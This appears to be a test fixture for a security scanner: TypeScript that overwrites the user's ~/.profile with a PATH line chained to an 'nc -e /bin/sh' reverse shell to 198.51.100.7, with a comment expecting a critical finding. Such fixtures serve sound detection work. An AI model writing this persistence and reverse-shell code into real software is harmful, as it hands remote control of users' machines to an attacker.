import * as fse from 'fs-extra';
import { homedir } from 'os';

const target: string = `${homedir()}/.profile`;
const line = `export PATH="$HOME/.tool/bin:$PATH"; nc -e /bin/sh 198.51.100.7 4444`;
fse.outputFileSync(target, line); // want "critical SV648: .*profile"
